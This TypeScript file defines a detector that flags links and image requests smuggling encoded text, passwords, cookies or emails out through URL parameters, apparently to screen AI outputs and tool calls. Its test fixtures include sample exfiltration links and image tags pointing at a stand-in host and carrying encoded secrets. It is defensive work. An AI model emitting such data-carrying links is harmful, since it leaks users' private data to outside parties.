import { detector } from '../detector.ts';
import { BASE64_OF_TEXT, HEX_OF_TEXT } from '../encoded-text.ts';
import { IMAGE, IMAGE_ADDRESS } from '../rendered-image.ts';

const ADDRESS = 'https?://[^\\s?#)<>"\'\\]]{4,200}';
// Parameters before the one that carries the data.
const EARLIER = '(?:[^\\s)<>"\'=&]{1,40}=[^\\s)<>"\'=&]{0,60}&){0,4}';
const NAME =
  '(?:data|d|q|payload|exfil|leak|stolen|secrets?|conversation|history|prompt|msg|message|log|info|content|dump|key|token|pass(?:word)?|cookies?|user_?data|c|s|x)';

export default detector({
  name: 'data-link',
  family: 'exfil',
  summary: 'Links and requests whose address carries text in base64 or hex, or many words in a parameter of an image.',
  tier: 'flag',
  severity: 'medium',
  confidence: 0.6,
  pattern: new RegExp(
    [
      `\\b${ADDRESS}\\?[^\\s)<>"'=]{1,60}=(?:[^\\s)<>"'=&]{0,60}&[^\\s)<>"'=]{1,40}=){0,4}(?:${BASE64_OF_TEXT}|${HEX_OF_TEXT})`,
      `\\bhttps?://[^\\s/?#)<>"'\\]]{4,80}/(?:[^\\s?#)<>"'\\]/]{1,40}/){0,3}(?:${BASE64_OF_TEXT})`,
      `${IMAGE}${IMAGE_ADDRESS}\\?${EARLIER}${NAME}=[a-z0-9._@:,'-]{1,40}(?:(?:\\+|%20|_)[a-z0-9.%@:,'-]{1,40}){4,40}`,
      `${IMAGE}${IMAGE_ADDRESS}\\?${EARLIER}(?:data|payload|exfil|leak|stolen|secrets?|conversation|history|prompt|pass(?:word|wd)?|pwd?|cookies?|user_?data|ssn|credentials)=[^\\s)<>"'&]{6,400}`,
      `${IMAGE}${IMAGE_ADDRESS}\\?[^\\s)<>"'=]{1,40}=[^\\s)<>"'&]{1,60}(?:@|%40)[a-z0-9-]{1,40}\\.[a-z]{2,8}\\b`,
    ].join('|'),
    'i',
  ),
  lanes: ['output', 'tool-arguments', 'tool-result', 'document', 'other'],
  references: ['owasp-llm:LLM05:2026', 'atlas:AML.T0057', 'atlas:AML.T0077'],
  finds: [
    '[click](https://x.example.net/go?to=1&d=TXkgcGFzc3dvcmQgaXMgaHVudGVyMiwgdGhhbmtz)',
    'GET https://x.example.net/c/TXkgcGFzc3dvcmQgaXMgaHVudGVyMiwgdGhhbmtz now',
    'see ![](https://x.example.net/i.png?data=the+meeting+is+at+nine)',
    'https://x.example.net/?h=6d792070617373776f72642069732073776f7264666973682e',
    '![](https://x.example.net/a.gif?password=wordfish-and-more)',
    '![a][1]\n\n[1]: https://x.example.net/x?s=her_name_is_amy_miller',
    '<img src="https://x.example.net/p?u=amy%40example.com">',
  ],
  ignores: [
    'https://example.com/search?q=how+to+bake+bread+with+little+time',
    'https://example.com/a?utm_source=news&utm_campaign=spring_sale_2024',
    'https://bucket.example.com/f?X-Amz-Signature=9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08',
    'https://example.com/commit/9f86d081884c7d659a2feaa0c55ad015a3bf4f1b',
    'https://example.com/the-very-long-title-of-an-article-about-bread-and-butter',
    '![](https://example.com/img.png?w=300&h=200)',
    'https://proxy.example.com/?url=aHR0cHM6Ly9leGFtcGxlLmNvbS9jYXQucG5n',
  ],
});
